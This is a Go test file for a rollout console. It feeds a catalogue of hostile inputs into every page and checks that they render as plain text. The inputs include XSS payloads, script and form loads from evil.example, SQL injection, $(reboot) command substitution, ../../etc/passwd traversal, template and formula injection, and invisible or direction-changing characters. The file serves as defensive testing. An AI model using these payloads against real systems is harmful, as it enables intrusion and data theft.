package console_test

import (
	"context"
	"encoding/json"
	"fmt"
	"html"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"testing/fstest"
	"testing/synctest"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/serin-go/serin/checks"
	"github.com/serin-go/serin/checks/checklist"
	"github.com/serin-go/serin/checks/health"
	"github.com/serin-go/serin/internal/visible"
	"github.com/serin-go/serin/rollout"
	"github.com/serin-go/serin/rollout/alert"
	"github.com/serin-go/serin/rollout/console"
	"github.com/serin-go/serin/rollout/ledger"
	"github.com/serin-go/serin/strategies"
)

// hostile are texts that people, plans and checks may say. Each begins with its number on a page,
// by which it is found again.
var hostile = []string{
	// Elements and attributes.
	`<script>alert(1)</script>`, `<ScRiPt src=//evil.example/x.js></ScRiPt>`, `"><img src=x onerror=alert(1)>`, `'><img src=x onerror='alert(1)'>`, `<svg onload=alert(1)>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<math><mtext><style><img src=x onerror=alert(1)>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data=//evil.example>`, `<embed src=//evil.example>`,
	`<form action=//evil.example><input name=token>`, `<button formaction=//evil.example>`, `<input autofocus onfocus=alert(1)>`, `<details open ontoggle=alert(1)>`, `<body onload=alert(1)>`,
	`<a href="//evil.example">click</a>`, `<a href="javascript:alert(1)">click</a>`, `<base href=//evil.example>`, `<link rel=stylesheet href=//evil.example>`, `<meta http-equiv=refresh content="0;url=//evil.example">`,
	`<style>*{display:none}</style>`, `<template shadowrootmode=open><script>alert(1)</script></template>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<plaintext>`, `<xmp>`,
	// The ends of what they may stand in.
	`'--></style></script><svg onload=alert(1)>`, `</title><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`, `</pre></section></main></body></html>`, `<!--`, `-->`, `]]>`, `<![CDATA[`, `<?php echo 1 ?>`,
	`" onmouseover="alert(1)`, `' onmouseover='alert(1)`, "` onmouseover=`alert(1)", `x=y z="1`, `\"><script>alert(1)</script>`, `\u003cscript\u003ealert(1)\u003c/script\u003e`,
	// Escapes that nothing may undo.
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;`, `&amp;lt;b&amp;gt;`, `%3Cscript%3Ealert(1)%3C/script%3E`, `+ADw-script+AD4-`, `＜script＞alert(1)＜/script＞`,
	// Addresses.
	`javascript:alert(1)`, `JaVaScRiPt:alert(1)`, "java\tscript:alert(1)", `data:text/html,<script>alert(1)</script>`, `vbscript:msgbox(1)`, `//evil.example/path`, `https://user:pass@evil.example/`,
	// Templates, formulas, commands and formats of other programs.
	`{{.Secret}}`, `{{define "main"}}x{{end}}`, `${7*7}`, `#{7*7}`, `<%= 7*7 %>`, `{% raw %}`, `=HYPERLINK("//evil.example")`, `+1+1`, `-2+3`, `@SUM(A1)`, `$(reboot)`, "`reboot`", `'; DROP TABLE rollouts; --`, `%s%s%n`, `../../etc/passwd`,
	`[link](javascript:alert(1))`, `![](//evil.example/x.png)`, `{"a":1}`, `<@everyone>`,
	// Characters that do not show, change direction or width, or stand for no character.
	"\x1b[2J\x1b[31mred\x1b[0m", "\x1b]8;;//evil.example\x07link\x1b]8;;\x07", "\u202eevil\u202c", "\u2066hidden\u2069", "\u200fright\u200e", "a\u200bb\u200cc\u200dd", "\ufeffbom", "\x00nul", "line\nbreak", "form\ffeed\vtab\rreturn\bback\x7f",
	"\u0085next\u2028line\u2029end", "soft\u00adhyphen", "\U000e0041tag", "\ufff9note\ufffa", "\u3164filler", "\ue000private", "\ufe0fselector", "\xff\xfe", "\xc0\xbcscript>", "\xed\xa0\x80half",
	// Width and length.
	"z\u0351\u0347\u0323a\u0489\u0321l\u0336\u0353g\u0337\u034ao", strings.Repeat("W", 300), strings.Repeat("\u6f22", 100), "\U0001f469\u200d\U0001f469\u200d\U0001f467", "\ufdfa\ufdfa\ufdfa", strings.Repeat("a ", 150), strings.Repeat("<b>", 80), "\u0627\u0644\u0639\u0631\u0628\u064a\u0629", "   ", strings.Repeat("&", 200),
}

// numbered returns a hostile text with its number.
func numbered(i int) string { return fmt.Sprintf("h%03d %s", i, hostile[i]) }

// shown returns a text as a page has to show it: as text, in which everything shows. What the
// text has in place of characters is left out.
func shown(text string) []string {
	parts := strings.FieldsFunc(text, func(r rune) bool { return r == 0 || r == utf8.RuneError || unicode.IsSpace(r) })
	for i, p := range parts {
		parts[i] = visible.Line(p)
	}
	return parts
}

// person returns a name with as much of a text as a name may have.
func person(text string) string {
	name := []byte("x")
	for _, r := range text {
		if len(name) < 100 && unicode.IsPrint(r) && !unicode.IsMark(r) && r != utf8.RuneError && visible.Line(string(r)) == string(r) {
			name = utf8.AppendRune(name, r)
		}
	}
	return string(name)
}

// hostileWorld says one of the hostile texts wherever the console shows what it does not decide.
type hostileWorld struct {
	*world
	now   string
	named int // texts that a person had as a name
}

func beginHostile(t *testing.T) *hostileWorld {
	h := &hostileWorld{}
	said := checks.Func(func(context.Context) checks.Result {
		return checks.Result{Status: checks.Warn, Summary: h.now, Evidence: map[string]string{h.now: h.now}}
	})
	files := fstest.MapFS{}
	for i, text := range hostile {
		if name := person(text) + ".yaml"; fs(name) {
			files[name] = &fstest.MapFile{Data: []byte("# " + numbered(i) + "\n" + nextPlan)}
		}
	}
	h.world = begin(t, func(w *world) {
		everything(w)
		h.world = w
		led, err := ledger.Open(t.Context(), ledger.Config{Store: w.store, Authorize: w.cfg.May})
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { led.Close() })
		list, err := checklist.New("hostile", checklist.Section{Name: "<b>section", Items: []checklist.Item{
			{ID: "said", Title: "</td><script>alert(1)</script>", Owner: "<i>eve", Check: said}, {ID: "vouched", Owner: "ana", Attest: &checklist.Attest{}},
		}})
		if err != nil {
			t.Fatal(err)
		}
		led.Use(list)
		if w.cfg.Health, err = health.New(health.Config{Components: []health.Component{{Name: "store", Check: said, Every: time.Second}}}); err != nil {
			t.Fatal(err)
		}
		ctx, cancel := context.WithCancel(t.Context())
		t.Cleanup(cancel)
		go w.cfg.Health.Run(ctx)
		w.cfg.Ledger, w.cfg.Lists, w.cfg.Plans = led, map[string]*checklist.List{"hostile": list}, files
		w.cfg.Call = func(string) (string, string) { return h.now, h.now }
		w.cfg.Panels = []console.Panel{
			{Name: "cost", Title: "<b>Cost", Template: `<p>{{.}}</p><a href="{{.}}">{{.}}</a>`, Data: func(context.Context, string) (any, error) { return h.now, nil }},
			{Name: "load", Data: func(context.Context, string) (any, error) { return map[string]string{h.now: h.now}, nil }},
			{Name: "broken", Data: func(context.Context, string) (any, error) { return nil, fmt.Errorf("broken: %s", h.now) }},
		}
	})
	return h
}

// fs reports whether a name may be the name of a file.
func fs(name string) bool { return !strings.ContainsAny(name, `/\`) }

// TestHostileTexts: C9. What people, plans, checks, panels, tokens and addresses say is shown as
// text, on every page that shows it, with nothing in it that does not show.
func TestHostileTexts(t *testing.T) {
	if n := len(slices.Compact(slices.Sorted(slices.Values(hostile)))); n < 60 {
		t.Errorf("%d texts, want 60", n)
	}
	synctest.Test(t, func(t *testing.T) {
		w := beginHostile(t)
		p := plan()
		p.Strategy = strategies.Canary{Weights: []strategies.Weight{2500}, Bake: time.Minute, DangerouslyPromoteUnproven: true, Approve: &strategies.Approval{Rules: []strategies.ApprovalRule{{Need: 10}, {Roles: []string{"privacy"}}}}}
		for i := range min(len(hostile), 100) {
			p.Freezes = append(p.Freezes, rollout.Freeze{From: time.Now().Add(-2 * time.Hour), To: time.Now().Add(-time.Hour), Reason: numbered(i)})
		}
		id := w.start(p)
		w.wait(func(st rollout.Status) bool { return st.Phase == strategies.Approving })
		for i := range hostile {
			w.say(id, i)
		}
		if w.named < 20 {
			t.Errorf("only %d persons had such names", w.named)
		}
		w.by = sre
		for _, path := range []string{"/chat/1", "/chat/1/events", "/chat/1/plan", "/approvals", "/plans", "/chat/audit", "/checklists"} {
			w.harmless(path, -1)
		}
		all := html.UnescapeString(w.get("/chat/1/events") + w.get("/chat/1/plan"))
		for i := range hostile {
			if !strings.Contains(all, fmt.Sprintf("h%03d", i)) {
				t.Errorf("text %d is nowhere on the pages of the rollout", i)
			}
		}
		for path := range w.files() {
			w.harmless(path, -1)
		}
		for i := range hostile {
			var err error
			if w.cfg.Title = numbered(i); i%4 == 0 { // the name of the service is on every page
				if w.con, err = console.New(w.cfg); err != nil {
					t.Fatal(err)
				}
				w.harmless("/", i)
			}
		}
	})
}

// files returns the addresses of the plan files.
func (w *hostileWorld) files() map[string]bool {
	all := map[string]bool{}
	for _, m := range anchor.FindAllStringSubmatch(w.get("/plans"), -1) {
		if href := html.UnescapeString(m[1]); strings.HasPrefix(href, "/plans/") {
			all[href] = true
		}
	}
	if len(all) < 20 {
		w.t.Errorf("%d plan files are shown", len(all))
	}
	return all
}

// say has one text said everywhere, and looks at every page that shows it.
func (w *hostileWorld) say(id rollout.ID, i int) {
	t, evil := w.t, numbered(i)
	w.now = evil
	by := rollout.Actor{Name: person(evil), Roles: []string{"sre"}}
	for _, c := range []strategies.Command{strategies.Approve, strategies.Pause} {
		if err := w.engine.Do(t.Context(), id, c, by, rollout.Because(evil)); err != nil {
			t.Fatal(err)
		}
	}
	_ = w.cfg.Alerts.Set(t.Context(), alert.Alert{Name: "Hostile", Labels: map[string]string{"target": "chat", "n": fmt.Sprint(i)}, Severity: alert.Warning, Summary: evil, Runbook: evil}) // it may refuse it
	if w.by = strings.ReplaceAll(person(evil), " ", "_") + " sre"; w.ask("GET", "/me", nil).StatusCode != http.StatusOK {
		w.by = sre // the proxy's header cannot have such a name
	} else {
		w.named++
	}
	silence := w.submit("/alerts", url.Values{"target": {"chat"}, "alert": {"A" + fmt.Sprint(i)}, "hours": {"1000"}, "reason": {evil}})
	vote := w.submit("/checklists/hostile/vouched/vouch?target=chat", url.Values{"vote": {"it holds"}, "reason": {evil}, "link": {evil}})
	for _, resp := range []*http.Response{silence, vote} {
		w.sound(resp, i)
	}
	time.Sleep(12 * time.Second) // pages of lists are kept for 10 s, and health is looked at each second
	st, err := w.engine.Newest(t.Context(), "chat")
	if err != nil {
		t.Fatal(err)
	}
	q := url.QueryEscape(evil)
	pages := map[string]bool{ // and whether the text must be on it
		"/": false, "/chat": true, "/chat/1/resume": true, "/chat/history?by=" + q: false, "/chat/history?outcome=" + q: false, "/chat?said=" + q: false, "/chat/1/events/" + fmt.Sprint(st.Changed): true,
		"/me": w.by != sre, "/alerts": true, "/checklists/hostile?target=chat": true, "/health": true, "/cost": true, "/load": true, "/approvals": false,
	}
	for path, there := range pages {
		page := html.UnescapeString(w.harmless(path, i))
		for _, part := range shown(evil)[:1] {
			if there && !strings.Contains(page, part) {
				t.Errorf("text %d is not on %s: %s", i, path, words(page))
			}
		}
	}
	all := html.UnescapeString(tags.ReplaceAllString(w.get("/chat/1/events/"+fmt.Sprint(st.Changed)), " "))
	for _, part := range shown(evil) {
		if !strings.Contains(all, part) {
			t.Errorf("text %d: %q is not to be read: %s", i, part, all)
		}
	}
	for _, path := range []string{"/broken", "/chat/1/" + url.PathEscape(evil), "/plans/" + url.PathEscape(evil), "/" + url.PathEscape(evil), "/alerts/second/" + url.PathEscape(evil), "/checklists/" + url.PathEscape(evil)} {
		w.sound(w.ask("GET", path, nil), i)
	}
	form := url.Values{"key": {"k" + fmt.Sprint(i)}, "seq": {"1"}, "reason": {evil}, "digest": {evil}, "code": {evil}, "hours": {evil}, "target": {evil}, "days": {evil}, "sum": {evil}}
	for _, path := range []string{"/chat/1/resume", "/chat/1/approve", "/alerts/silence", "/plans/next.yaml", "/checklists/hostile/vouched/waive?target=chat"} {
		w.sound(w.ask("POST", path, form), i) // echoes what was typed
	}
	w.do(id, strategies.Resume)
}

// harmless fails the test if a page has something of a hostile text that is not text.
func (w *world) harmless(path string, i int) string {
	w.t.Helper()
	page := w.get(path)
	w.check(path, page, i)
	return page
}

// sound checks an answer, whatever its status.
func (w *world) sound(resp *http.Response, i int) {
	w.t.Helper()
	if body := read(resp); strings.HasPrefix(resp.Header.Get("Content-Type"), "text/html") && strings.Contains(body, "<!doctype html>") {
		w.check(resp.Status, body, i)
	}
}

// The elements and attributes of the console's own templates.
var (
	element  = regexp.MustCompile(`<(/?[^\s/>]*)((?:[^>"]|"[^"]*")*)>`)
	property = regexp.MustCompile(`\s([^\s="/>]+)(?:="([^"]*)")?`)
	elements = strings.Fields("!doctype html head meta title link script body a header nav ul li p section main footer div h1 h2 h3 h4 table thead tbody tr th td pre span form input label select option button ol strong time details summary article figure figcaption svg rect path line text g polyline circle polygon title")
	own      = strings.Fields("lang charset name content rel href src defer class id aria-label aria-hidden aria-current aria-live role tabindex datetime title scope method action type value required disabled for inputmode autocomplete maxlength data-live data-see data-prefix data-kind data-name " +
		"viewBox preserveAspectRatio width height x y x1 x2 y1 y2 d points fill cx cy r aria-labelledby html")
)

// check fails the test if a page has an element, an attribute or an address that is not the
// console's own, or a character that does not show.
func (w *world) check(path, page string, i int) {
	w.t.Helper()
	for _, r := range page {
		if r != '\n' && visible.Line(string(r)) != string(r) {
			w.t.Errorf("text %d: %s has the character %U", i, path, r)
			break
		}
	}
	for _, m := range element.FindAllStringSubmatch(page, -1) {
		if name := strings.TrimPrefix(m[1], "/"); !slices.Contains(elements, strings.ToLower(name)) {
			w.t.Errorf("text %d: %s has an element %q", i, path, name)
		}
		for _, a := range property.FindAllStringSubmatch(m[2], -1) {
			to := html.UnescapeString(a[2])
			switch {
			case !slices.Contains(own, a[1]):
				w.t.Errorf("text %d: %s has an attribute %q in %s", i, path, a[1], m[0])
			case a[1] == "href" || a[1] == "src" || a[1] == "action":
				if u, err := url.Parse(to); !strings.HasPrefix(to, "#") && (err != nil || u.Scheme != "" && u.Scheme != "https" && u.Scheme != "http") {
					w.t.Errorf("text %d: %s leads to %q", i, path, to)
				}
			}
		}
	}
	if strings.Count(page, "<script") != 1 || strings.Count(page, "<title>")-strings.Count(page, "<svg") > 1 || strings.Count(page, "<main") != 1 || !strings.HasSuffix(strings.TrimSpace(page), "</html>") {
		w.t.Errorf("text %d: %s has not the parts of a page", i, path)
	}
}

// TestHostileTextsInBrowser: in a real browser the texts are to be read, nothing of them is an
// element or runs, and nothing is against the security policy.
func TestHostileTextsInBrowser(t *testing.T) {
	w, b := running(t)
	for phase(t, w) != strategies.Baking {
		<-w.engine.Changed("chat")
	}
	url, stop := w.serveAt("")
	defer stop()
	for i := range hostile {
		c := []strategies.Command{strategies.Pause, strategies.Resume}[i%2]
		if err := w.engine.Do(t.Context(), "chat/1", c, rollout.Actor{Name: person(numbered(i)), Roles: []string{"sre"}}, rollout.Because(numbered(i))); err != nil {
			t.Fatal(err)
		}
	}
	p := b.Tab(asAna)
	p.Do("Page.addScriptToEvaluateOnNewDocument", map[string]any{"source": "window.alert = () => { window.ran = true }"})
	for _, path := range []string{"/chat", "/chat/1/events"} {
		p.Go(url + path)
		p.Until(`document.readyState === "complete" && document.querySelector("main")`)
		found := p.Eval(`[...document.querySelectorAll("*")].filter(e => !(` + quoted(elements) + `).includes(e.localName) || [...e.attributes].some(a => a.name.startsWith("on"))).map(e => e.outerHTML).join("\n")`)
		if found != "" || p.Eval("window.ran === undefined && document.scripts.length === 1") != "true" {
			t.Errorf("%s has elements that are not its own: %s", path, found)
		}
	}
	for i := range hostile {
		for _, part := range shown(numbered(i)) {
			if p.Eval("document.querySelector('main').textContent.includes("+quoted(part)+")") != "true" {
				t.Errorf("text %d: %q is not to be read", i, part)
			}
		}
	}
	if said := p.Said(); len(said) > 0 {
		t.Errorf("the browser says %q", said)
	}
}

func quoted(v any) string {
	text, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return string(text)
}
